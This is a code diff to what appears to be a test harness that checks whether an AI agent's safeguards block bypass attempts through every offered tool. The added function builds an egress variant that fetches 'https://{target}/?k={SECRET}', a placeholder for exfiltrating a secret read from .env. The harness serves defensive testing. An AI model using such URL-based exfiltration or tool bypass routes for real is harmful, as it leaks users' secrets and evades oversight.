@@ -5,7 +5,8 @@ a custom tool), found at run time and tried as their class allows.
 the agent what it offers (a run whose model only says "done"; for deferred tools, a ToolSearch that loads their
 schemas), builds variants for every offered tool the corpus does not name, with ids `<tool>:<spelling>:<form>`
 (`mcp__files__write_file:path:relative`), plays each in its own copy of the workspace, and fails if any got through.
-A shell-running tool gets the shell spellings; a tool with a path and content writes; a tool with a path reads.
+A shell-running tool gets the shell spellings; a tool with a path and content writes; a tool with a path reads; a
+tool with a `url` input fetches the egress target, the secret in the URL.
 """
 
 from __future__ import annotations
@@ -18,6 +19,7 @@ from typing import Any, cast
 from ..agents.networked import unavailable_here
 from ..errors import ours
 from ..gateway.scripted import ScriptedModel, tool_use
+from .egress_routes import SECRET
 from .forms import PATH_FORMS
 from .judge import WORST_FIRST, BypassOutcome, BypassSucceeded, VariantNotApplicable, inconclusive
 from .offered import CUSTOM_ROUTES, OfferedTool, offered_tools
@@ -220,7 +222,28 @@ def tool_variants(family: str, target: str, tool: OfferedTool, depth: str = "cur
             )
             for v in base
         ]
+    if tool.acts_as == "fetch":
+        return _fetch_variants(family, target, tool, defaults)
     return _file_tool_variants(family, target, tool, custom, defaults, depth)
+
+
+def _fetch_variants(family: str, target: str, tool: OfferedTool, defaults: dict[str, Any]) -> list[Variant]:
+    """Through a tool that fetches a URL (an MCP fetch server's, a custom tool's): the secret in its query, as the
+    model would put it there after reading .env; a way out of the egress family only."""
+    if family != "egress" or "url" not in tool.inputs:
+        return []
+    return [
+        Variant(
+            id=f"{tool.name}:url",
+            family=family,
+            target=target,
+            route=f"{tool.name} (a URL)",
+            form="-",
+            tool=tool.name,
+            input={**defaults, "url": f"https://{target}/?k={SECRET}"},
+            tags=frozenset({"offered-tool", "tool"}),
+        )
+    ]
 
 
 def _file_tool_variants(
